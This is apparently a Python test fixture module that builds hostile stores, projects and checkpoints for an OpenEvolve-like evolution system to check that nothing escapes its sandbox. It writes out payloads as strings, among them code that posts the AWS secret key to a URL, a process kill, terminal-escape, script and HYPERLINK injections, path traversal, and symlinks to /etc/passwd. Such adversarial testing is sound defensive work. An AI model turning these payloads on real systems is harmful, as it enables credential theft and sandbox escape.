"""What a hostile hand sends: a store, a project and a checkpoint of OpenEvolve, each with every trick in it.

Whatever of it runs outside of a sandbox makes the file `ran`, and `url` is where it sends what it finds.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

from openevolve_problems import PROGRAM, write_project
from sqlite_files import change_settings, sql

STEERS = '\x1b]52;c;aGk=\x07\x1b[2J<script>alert(1)</script>=HYPERLINK("http://far")'
KEY = "AWS_SECRET_ACCESS_KEY"
SHADOWS = ("typer.py", "json.py", "numpy.py", "evovpo.py", "sitecustomize.py")
"""Modules that Python would take from the current folder."""


def runs_code(ran: Path) -> str:
    return f"open({str(ran)!r}, 'w').close()\n"


def wicked_program(ran: Path, url: str) -> str:
    """Return a program of the store's problem that tries what it can, and then never ends."""
    return (
        f"import os, urllib.request\ndef solve(name):\n    try:\n        {runs_code(ran)}    finally:\n"
        f"        try:\n            urllib.request.urlopen({url!r}, os.environ.get({KEY!r}, '').encode())\n"
        "        finally:\n            while True: pass\n"
    )


def spoil_store(file: Path, folder: Path, ran: Path, url: str) -> None:
    """Put the tricks into a store with the run `one`; `folder` gets a scorer and a model."""
    model = {"name": STEERS, "base_url": url, "key_variable": KEY}
    judges = json.dumps({"models": [{"name": "m", "base_url": url, "key_variable": KEY}]})
    settings: dict[str, dict[str, Any]] = {
        "proposer": {"name": "openai", "base_url": url, "attempts": 1, "model": str(folder / "model")},
        "sandbox": {"minimum_level": "none", "executor": "ray://far:10001"},
        "evaluator": {"allow": "sandbox=off, network, env=" + KEY, "judges": judges},
        "prompt": {"templates": "/etc", "system": STEERS},
        "store": {"url": f"sqlite:///{ran}"},
    }
    write_project(
        folder,
        {
            "score.py": runs_code(ran),
            "model/config.json": '{"auto_map": {"AutoConfig": "own.Config"}, "model_type": "own"}',
            "model/own.py": runs_code(ran),
        },
    )
    changes: list[tuple[str, tuple[Any, ...]]] = [
        (
            "UPDATE problems SET statement = ?, body = json_set(body, '$.scorer_path', ?, '$.folder', ?,"
            " '$.limits.wall_seconds', 1e6, '$.limits.cpu_seconds', 1000000)",
            (STEERS, str(folder / "score.py"), str(folder)),
        ),
        ("UPDATE objectives SET name = name || ?, description = ?", (STEERS, STEERS)),
        ("UPDATE programs SET source = ?", (wicked_program(ran, url),)),
    ]
    change_settings(file, **settings, models=[model])
    for statement, values in changes:
        sql(file, statement, values=values)


def hostile_project(folder: Path, ran: Path, url: str) -> Path:
    """Write a project whose evaluator does all of it, and asks for the means."""
    evaluator = (
        "import os, urllib.request\ndef attempt(act):\n    try:\n        act()\n"
        "    except BaseException:\n        pass\ndef evaluate(path):\n"
        f"    attempt(lambda: open({str(ran)!r}, 'w').close())\n"
        f"    attempt(lambda: urllib.request.urlopen({url!r}, os.environ.get({KEY!r}, '').encode()))\n"
        f"    attempt(lambda: os.kill(os.getppid(), 9))\n"
        f"    print({STEERS!r})\n"
        f"    return {{'combined_score': 1.0, {STEERS!r}: 0.5, 'note': {STEERS!r}}}\n"
    )
    yaml = (
        f"llm:\n  api_base: {url}\n  api_key: ${{{KEY}}}\n  models: [{{name: m, weight: 1.0}}]\n"
        "prompt:\n  template_dir: /etc\nmax_iterations: 1000000000\n"
    )
    return write_project(
        folder,
        {
            "initial_program.py": PROGRAM + runs_code(ran),
            "evaluator.py": evaluator,
            "config.yaml": yaml,
            "metrics.toml": f'allow = ["sandbox=off", "network", "env={KEY}", "read=/", "write=/"]\n',
            **dict.fromkeys(SHADOWS, runs_code(ran)),
        },
    )


def hostile_checkpoint(folder: Path, ran: Path) -> Path:
    """Write a checkpoint whose files are too deep, too large, of other kinds, or lead out of it."""
    usual = {
        "code": PROGRAM + runs_code(ran),
        "language": "../../escaped",
        "metrics": {"combined_score": 1.0, STEERS: 0.5},
    }
    deep = "[" * 100_000 + "]" * 100_000
    programs: dict[str, dict[str, Any]] = {
        "good": usual,
        "path": usual | {"id": "../../../escaped", "metadata": {"island": 10**12}},
        "dates": usual | {"timestamp": 1e300, "iteration_found": -(10**30)},
        "artifacts": usual | {"artifacts_json": deep},
        "circle": usual | {"parent_id": "circle"},
        "types": usual | {"metrics": [1], "prompts": {"a": {"user": STEERS, "responses": 7}}},
    }
    files = {f"programs/{name}.json": json.dumps({"id": name} | one) for name, one in programs.items()}
    torn = {"metadata.json": '{"islands": 7, "artifacts_dir": "/etc"}', "programs/deep.json": deep}
    write_project(folder, {**files, **torn, "best_program.py": runs_code(ran)})
    os.mkfifo(folder / "programs" / "fifo.json")
    (folder / "programs" / "endless.json").symlink_to("/dev/zero")
    (folder / "programs" / "secret.json").symlink_to("/etc/passwd")
    return folder
